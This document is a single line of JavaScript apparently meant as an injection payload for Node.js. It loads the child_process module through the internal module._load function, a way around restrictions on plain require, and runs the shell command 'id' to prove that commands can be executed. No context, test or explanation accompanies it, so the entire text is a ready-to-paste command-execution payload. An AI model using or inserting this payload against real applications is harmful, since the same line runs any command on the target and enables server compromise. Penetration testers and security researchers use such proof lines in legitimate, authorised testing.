require("module")._load("child_process").exec("id");
